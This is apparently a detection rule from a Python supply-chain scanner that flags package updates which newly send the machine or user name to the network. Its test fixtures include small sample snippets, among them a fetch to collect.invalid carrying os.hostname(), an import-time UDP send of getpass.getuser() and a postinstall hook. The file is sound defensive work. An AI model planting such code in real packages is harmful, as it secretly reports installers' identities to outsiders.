"""This update tells somebody whose machine it runs on.

## What it detects
The name of the machine, its user or its network addresses, followed into a connection or a DNS query that the line
never led them to; at once heavy where code that runs by itself does it.

## Why it matters
Names that are planted to be installed by mistake report first of all where they were installed; thieves choose by it
whom to visit again. A library has no reason to tell.

## What it misses
What is hashed beyond recognition; what a started command prints; telemetry that the line always sent.

## References
- MITRE ATT&CK T1082, System Information Discovery; T1033, System Owner/User Discovery
"""

from collections.abc import Iterator

from lazaretto.core.facts import Kind
from lazaretto.core.finding import Card, Example, Finding
from lazaretto.core.question import AUTORUN, Tally, decoded, new_chains, package_json
from lazaretto.core.update import Update

CARD = Card(
    id="machine-told",
    title="Tells whose machine it runs on",
    variants={
        "autorun": "Code that runs by itself sends the name of the machine or of its user, as no earlier release did.",
        "call": "A function sends the name of the machine or of its user; no earlier release did.",
        "first-contact": "There is no earlier release; code that runs by itself sends it.",
    },
    group="flow",
    why="Where a package was installed is nobody's business but the installer's.",
    attack=("T1195.002", "T1082", "T1033"),
)

_BEFORE = {"package.json": package_json("1.0.0"), "index.js": "module.exports = (a) => a;\n"}
_TOLD = (
    "const os = require('os');\nfetch('https://collect.invalid/?host=' + os.hostname());\nmodule.exports = (a) => a;\n"
)

EXAMPLES = (
    Example(
        title="the entry file reports the name of the machine",
        before=_BEFORE,
        after={"package.json": package_json("1.0.1"), "index.js": _TOLD},
        expect="autorun",
        at="index.js:2",
    ),
    Example(
        title="a Python package reports its user in a datagram at import",
        ecosystem="pypi",
        before={"pad/__init__.py": "WIDTH = 2\n"},
        after={
            "pad/__init__.py": "import getpass, socket\n"
            "link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "link.sendto(getpass.getuser().encode(), ('collect.invalid', 53))\nWIDTH = 2\n"
        },
        expect="autorun",
        at="pad/__init__.py:3",
    ),
    Example(
        title="a client that names its machine when it is asked to register",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": "const os = require('os');\n"
            "exports.register = () => fetch('https://api.invalid/', { method: 'POST', body: os.hostname() });\n",
        },
        expect="call",
        at="index.js:2",
    ),
    Example(
        title="first contact with an install script that reports the machine",
        after={
            "package.json": package_json("1.0.0", scripts={"postinstall": "node index.js"}),
            "index.js": _TOLD,
        },
        expect="first-contact",
        at="index.js:2",
    ),
    Example(
        title="a tool that prints the name of the machine and connects",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": "console.log(require('os').hostname());\nfetch('https://api.invalid/');\n",
        },
    ),
    Example(
        title="a program that always reported it",
        before={"package.json": package_json("1.0.0"), "index.js": _TOLD},
        after={"package.json": package_json("1.0.1"), "index.js": _TOLD + "exports.version = 2;\n"},
    ),
)

_MESSAGES = {
    "autorun": "tells somebody, without being called, whose machine it runs on",
    "call": "tells somebody, when it is called, whose machine it runs on",
    "first-contact": "tells somebody, without being called, whose machine it runs on",
}
_SINKS = (Kind.NET_CONNECT, Kind.DNS_QUERY)


def detect(update: Update) -> Iterator[Finding]:
    """Yield one finding for each variant."""
    tally = Tally(CARD)
    for pair in update.pairs:
        for chain, new_kind in new_chains(pair, (Kind.ENV_READ,), _SINKS):
            alone = chain.reach in AUTORUN
            if not new_kind or not chain.data or (pair.before is None and not alone):
                continue
            variant = "first-contact" if pair.before is None else "autorun" if alone else "call"
            tally.add(variant, pair, chain.source, chain.sink)
            tally.explain(variant, decoded(pair, chain.source.path))
    yield from tally.findings(_MESSAGES)
